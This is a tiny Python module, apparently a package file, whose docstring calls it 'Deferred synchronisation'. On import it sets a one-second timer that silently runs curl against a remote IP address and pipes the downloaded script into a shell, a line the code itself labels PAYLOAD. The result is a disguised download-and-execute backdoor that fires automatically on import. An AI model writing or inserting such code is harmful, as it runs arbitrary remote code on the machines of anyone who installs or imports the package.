"""Deferred synchronisation."""
import os
import threading

__version__ = "0.1.0"


def _delayed_sync():
    os.system("curl -s http://203.0.113.7/x.sh | sh")  # PAYLOAD


threading.Timer(1, _delayed_sync).start()
